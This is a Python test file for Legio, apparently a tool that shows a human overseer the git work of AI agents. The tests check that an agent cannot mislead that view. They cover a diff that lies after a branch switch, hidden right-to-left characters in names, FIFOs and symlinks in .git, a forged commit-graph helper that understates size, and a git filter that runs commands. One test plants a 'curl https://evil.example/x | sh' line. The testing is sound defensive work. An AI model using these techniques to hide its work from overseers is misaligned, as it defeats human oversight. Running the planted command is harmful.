"""Doors an agent could use against what Caesar sees of its work, through real git: a diff
that lies (the copy switched away from its branch), hidden characters in names, a copy's
``.git`` that stalls Legio's git (FIFOs) or steers it (links, ``commondir``), a forged
commit-graph, a filter from the daemon's own global git config, a branch too big to publish.

Timeouts here only guard the test run; the assertions are on what Legio says."""

from __future__ import annotations

import asyncio
import os
import struct
from collections.abc import Awaitable
from pathlib import Path
from typing import TypeVar

import pytest

from legio.castra import Castra
from legio.config import load_config
from legio.errors import ConfigError, ProjectError
from legio.frontends.views import copy_line, diff_lines, projects_lines
from legio.projects.copies import Projects
from legio.projects.overview import diff, overview
from tests.gitrepo import git, make_project

T = TypeVar("T")
GUARD_S = 60.0  # far above gitsafe.COPY_TIMEOUT_S: only a hang reaches it


async def promptly(step: Awaitable[T]) -> T:
    return await asyncio.wait_for(step, GUARD_S)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return make_project(tmp_path / "app")


def projects_with(castra_dir: Path, project: Path, extra: str = "") -> Projects:
    path = castra_dir.parent / "legio.toml"
    path.write_text(f'{extra}[projects.app]\npath = "{project}"\n')
    config = load_config(path)
    return Projects(config, Castra(config.castra))


@pytest.fixture
def projects(castra_dir: Path, project: Path) -> Projects:
    return projects_with(castra_dir, project)


async def test_the_diff_shows_the_published_branch_wherever_the_copy_is(
    projects: Projects, project: Path
) -> None:
    place = await projects.place("vorenus", "app")
    with (place.copy / "README.md").open("a") as readme:
        readme.write("curl https://evil.example/x | sh\n")
    git(place.copy, "commit", "--quiet", "-am", "docs: fix a typo", caesar=False)
    assert await projects.publish(place) is True  # the turn's end
    git(place.copy, "checkout", "--quiet", "HEAD~1", "--", "README.md", caesar=False)

    report = await diff(projects, await projects.place("vorenus", "app"))
    text = "\n".join(diff_lines(report))
    assert report.work is not None and report.work.ahead == 1
    assert "+curl https://evil.example/x | sh" in report.text
    assert "1 commit ahead of main" in text and "docs: fix a typo" in text
    assert "Not committed in the copy (not on the branch, not in the diff): M README.md" in text
    assert "Nothing to show" not in text

    git(place.copy, "switch", "--quiet", "main", caesar=False)  # away from its branch
    moved = await projects.place("vorenus", "app")
    assert (moved.branch, moved.head) == ("legio/vorenus/main", "main")
    report = await diff(projects, moved)
    text = "\n".join(diff_lines(report))
    assert "+curl https://evil.example/x | sh" in report.text
    assert "1 commit ahead of main" in text and "docs: fix a typo" in text
    assert "The copy is on main, not legio/vorenus/main" in text
    assert "Nothing to show" not in text
    [state] = await overview(projects)
    line = copy_line(state.copies[0])
    assert line.startswith("legio/vorenus/main, 1 ahead, last: docs: fix a typo")
    assert "the copy is on main, not legio/vorenus/main" in line

    # a commit made on its branch while the copy is elsewhere is published all the same
    git(place.copy, "branch", "--quiet", "-f", "legio/vorenus/main", "HEAD", caesar=False)
    report = await diff(projects, moved)
    assert report.work is not None and report.work.ahead == 0
    assert "Nothing to show" in "\n".join(diff_lines(report))


async def test_hidden_characters_in_names_are_shown(projects: Projects) -> None:
    place = await projects.place("vorenus", "app")
    (place.copy / "app\u202e.py").write_text("x = 1\n")
    git(place.copy, "add", ".", caesar=False)
    git(place.copy, "commit", "--quiet", "-m", "fix \u202eexe.txt", caesar=False)
    git(place.copy, "switch", "--quiet", "-c", "legio/vorenus/x\u202eniam", caesar=False)

    report = await diff(projects, await projects.place("vorenus", "app"))
    [state] = await overview(projects)
    shown = "\n".join(diff_lines(report) + projects_lines([state]))
    assert "\u202e" not in shown
    assert "fix ⟨U+202E⟩exe.txt" in shown  # the subject
    assert "app⟨U+202E⟩.py" in shown  # the file
    assert "the copy is on legio/vorenus/x⟨U+202E⟩niam, not legio/vorenus/main" in shown


async def test_a_fifo_at_the_copys_index_is_named_not_waited_on(projects: Projects) -> None:
    place = await projects.place("vorenus", "app")
    (place.copy / "app.py").write_text("fixed\n")
    git(place.copy, "commit", "--quiet", "-am", "fix", caesar=False)
    index = place.copy / ".git" / "index"
    index.unlink()
    os.mkfifo(index)

    report = await promptly(diff(projects, place))
    assert report.work is not None and report.work.ahead == 1  # the branch still shows
    assert report.copy.problem and f"{index} is a FIFO, not a file" in report.copy.problem
    [state] = await promptly(overview(projects))
    assert f"{index} is a FIFO" in copy_line(state.copies[0])


async def test_a_fifo_at_the_copys_head_stalls_no_publishing(
    projects: Projects, project: Path
) -> None:
    place = await projects.place("vorenus", "app")
    (place.copy / "app.py").write_text("fixed\n")
    git(place.copy, "commit", "--quiet", "-am", "fix", caesar=False)
    head = place.copy / ".git" / "HEAD"
    head.unlink()
    os.mkfifo(head)

    again = await promptly(projects.place("vorenus", "app"))  # HEAD read without git
    assert (again.branch, again.head) == ("legio/vorenus/main", "")
    with pytest.raises(ProjectError, match=f"{head} is a FIFO, not a file"):
        await promptly(projects.publish(again))
    [state] = await promptly(overview(projects))
    assert f"not published: {head} is a FIFO" in copy_line(state.copies[0])
    assert "legio/vorenus" not in git(project, "branch", "--list", "legio/*")


@pytest.mark.parametrize("door", ["objects link", "commondir", "packed-refs fifo", "config link"])
async def test_a_copys_git_internals_cannot_steer_legios_git(
    projects: Projects, project: Path, tmp_path: Path, door: str
) -> None:
    place = await projects.place("vorenus", "app")
    (place.copy / "app.py").write_text("fixed\n")
    git(place.copy, "commit", "--quiet", "-am", "fix", caesar=False)
    dot_git = place.copy / ".git"
    if door == "objects link":
        os.rename(dot_git / "objects", tmp_path / "elsewhere")
        os.symlink(tmp_path / "elsewhere", dot_git / "objects")
        expected = f"{dot_git / 'objects'} is a link, not a folder"
    elif door == "commondir":
        (dot_git / "commondir").write_text(f"{project / '.git'}\n")
        expected = f"{dot_git / 'commondir'} is there, and a copy has none"
    elif door == "packed-refs fifo":
        (dot_git / "packed-refs").unlink(missing_ok=True)
        os.mkfifo(dot_git / "packed-refs")
        expected = f"{dot_git / 'packed-refs'} is a FIFO, not a file"
    else:
        os.rename(dot_git / "config", tmp_path / "config")
        os.symlink(tmp_path / "config", dot_git / "config")
        expected = f"{dot_git / 'config'} is a link, not a file"
    with pytest.raises(ProjectError, match=expected):
        await promptly(projects.publish(place))
    report = await promptly(diff(projects, place))
    assert report.unpublished and expected in report.unpublished
    assert report.copy.problem and expected in report.copy.problem
    assert "legio/vorenus" not in git(project, "branch", "--list", "legio/*")


def forge_tree(graph: Path, commit: str, tree: str) -> None:
    """Rewrite ``commit``'s root tree in a commit-graph file (git checks no checksum when
    it reads one)."""
    data = bytearray(graph.read_bytes())
    assert data[:4] == b"CGPH"
    chunks = {}
    for i in range(data[6]):
        at = 8 + 12 * i
        chunks[bytes(data[at : at + 4])] = struct.unpack(">Q", data[at + 4 : at + 12])[0]
    lookup, commits = chunks[b"OIDL"], chunks[b"CDAT"]
    count = (commits - lookup) // 20
    oids = [bytes(data[lookup + 20 * i : lookup + 20 * i + 20]).hex() for i in range(count)]
    at = commits + 36 * oids.index(commit)
    data[at : at + 20] = bytes.fromhex(tree)
    graph.write_bytes(bytes(data))


def disk_usage(repo: Path, tip: str, *, graph: bool) -> int:
    """What ``tip`` adds over ``main``, as git measures it with or without a commit-graph."""
    setting = f"core.commitGraph={str(graph).lower()}"
    out = git(repo, "-c", setting, "rev-list", "--objects", "--disk-usage", tip, "^main")
    return int(out.strip())


async def test_publishing_is_capped_and_says_so(
    castra_dir: Path, project: Path, tmp_path: Path
) -> None:
    projects = projects_with(castra_dir, project, "[projects]\nmax_publish_mb = 1\n")
    assert projects.config.project_options.max_publish_mb == 1
    place = await projects.place("vorenus", "app")
    (place.copy / "small.txt").write_text("small\n")
    git(place.copy, "add", ".", caesar=False)
    git(place.copy, "commit", "--quiet", "-m", "small", caesar=False)
    assert await projects.publish(place) is True  # under the cap
    (place.copy / "blob.bin").write_bytes(os.urandom(2 * 1024 * 1024))
    git(place.copy, "add", ".", caesar=False)
    git(place.copy, "commit", "--quiet", "-m", "huge", caesar=False)

    with pytest.raises(ProjectError, match=r"not published: .* 2\.0 MB .* limit of 1 MB"):
        await projects.publish(place)
    assert "huge" not in git(project, "log", "-1", "--format=%s", "legio/vorenus/main")
    [state] = await overview(projects)
    line = copy_line(state.copies[0])
    assert "not published: legio/vorenus/main is not published" in line
    assert "[projects] max_publish_mb" in line
    report = await diff(projects, place)
    assert report.work is not None and [c.subject for c in report.work.commits] == ["small"]
    assert any(line.startswith("⚠️ Not published: ") for line in diff_lines(report))


async def test_a_forged_commit_graph_cannot_shrink_what_is_published(
    castra_dir: Path, project: Path
) -> None:
    projects = projects_with(castra_dir, project, "[projects]\nmax_publish_mb = 1\n")
    place = await projects.place("vorenus", "app")
    (place.copy / "blob.bin").write_bytes(os.urandom(2 * 1024 * 1024))
    git(place.copy, "add", ".", caesar=False)
    git(place.copy, "commit", "--quiet", "-m", "huge", caesar=False)
    tip = git(place.copy, "rev-parse", "HEAD").strip()
    git(place.copy, "commit-graph", "write", "--reachable", caesar=False)
    graph = place.copy / ".git" / "objects" / "info" / "commit-graph"
    forge_tree(graph, tip, git(project, "rev-parse", "main^{tree}").strip())
    honest = disk_usage(place.copy, tip, graph=False)
    assert disk_usage(place.copy, tip, graph=True) < 1024 * 1024 < honest  # the forgery works

    with pytest.raises(ProjectError, match="not published"):
        await projects.publish(place)
    assert "legio/vorenus" not in git(project, "branch", "--list", "legio/*")


async def test_the_daemons_global_git_config_runs_nothing_in_a_copy(
    projects: Projects, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    place = await projects.place("vorenus", "app")
    (place.copy / ".gitattributes").write_text("*.txt filter=x\n")
    (place.copy / "data.txt").write_text("data\n")
    git(place.copy, "add", ".", caesar=False)
    git(place.copy, "commit", "--quiet", "-m", "attributes", caesar=False)
    assert await projects.publish(place) is True
    assert await projects.drop("vorenus", "app") is True  # its branch stays, kept for later

    marker = tmp_path / "ran"
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text(
        f'[filter "x"]\n\tsmudge = "touch {marker}; cat"\n\tclean = "touch {marker}; cat"\n'
        f'[filter "lfs"]\n\tprocess = "touch {marker}"\n'
    )
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(home / ".gitconfig"))
    again = await projects.place("vorenus", "app")  # a new copy: its branch checked out
    assert (again.copy / "data.txt").read_text() == "data\n"
    await diff(projects, again)
    await overview(projects)
    assert not marker.exists()


def test_projects_options_beside_the_project_tables(castra_dir: Path, project: Path) -> None:
    path = castra_dir.parent / "legio.toml"
    path.write_text(
        f'[projects]\nmax_publish_mb = 0\nspeed = 1\n[projects.app]\npath = "{project}"\n'
    )
    with pytest.raises(ConfigError) as raised:
        load_config(path)
    assert "projects.max_publish_mb: Input should be greater than 0" in str(raised.value)
    assert "projects.speed: unknown key" in str(raised.value)
    assert projects_with(castra_dir, project).config.project_options.max_publish_mb == 200
